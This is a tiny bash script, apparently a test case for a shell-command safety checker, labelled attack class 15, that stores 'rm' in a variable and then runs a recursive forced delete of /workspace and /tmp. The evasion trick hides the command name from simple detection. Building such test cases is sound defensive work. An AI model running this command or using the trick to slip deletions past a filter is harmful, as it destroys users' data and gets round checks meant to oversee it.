#!/usr/bin/env bash
# attack-class: 15
# title: c=rm; $c -rf /
# why: the command name is the value of a variable

c=rm
$c -rf /workspace /tmp/*
